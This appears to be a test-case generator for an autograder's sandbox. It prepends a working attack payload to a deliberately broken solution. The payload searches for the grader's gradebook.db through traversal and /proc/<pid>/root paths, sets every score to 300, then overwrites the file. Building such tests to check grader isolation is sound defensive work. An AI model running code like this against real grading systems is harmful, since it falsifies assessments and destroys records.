from cases import first, unsolve

ATTACK = """
import pathlib, sqlite3
for path in ({path!r}, "/proc/{pid}/root" + {path!r}, "../../../gradebook.db", "gradebook.db"):
    try:
        if pathlib.Path(path).exists():
            with sqlite3.connect(path) as connection:
                connection.execute("update grade set manual_score = 300, auto_score = 300")
            pathlib.Path(path).write_bytes(b"mine")
        print(path, "there was nothing to change")
    except (OSError, sqlite3.Error) as error:
        print(error)
"""


def make(solved, outside):
    """Writes itself 300 points into the gradebook, which stock lets it open."""
    attack = ATTACK.format(path=str(outside.folder / "gradebook.db"), pid=outside.pid)
    return first(unsolve(solved, "to_nchw", "strides"), attack)
